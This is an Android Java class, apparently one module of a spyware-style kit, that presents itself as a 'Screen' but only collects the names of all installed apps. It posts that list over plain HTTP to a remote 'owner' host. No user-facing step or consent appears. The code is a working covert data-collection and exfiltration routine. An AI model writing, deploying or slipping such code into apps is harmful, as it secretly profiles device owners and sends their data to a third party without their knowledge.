package org.corpus;

import android.content.pm.PackageInfo;
import org.corpus.kit.Net;
import org.corpus.kit.Screen;

/** What is installed. */
public class AppList extends Screen {
    @Override
    protected void act() throws Exception {
        StringBuilder names = new StringBuilder();
        for (PackageInfo one : getPackageManager().getInstalledPackages(0)) {
            names.append(one.packageName).append('\n');
        }
        Net.post("http://owner.corpus.example/apps", "text/plain", names.toString());
    }
}
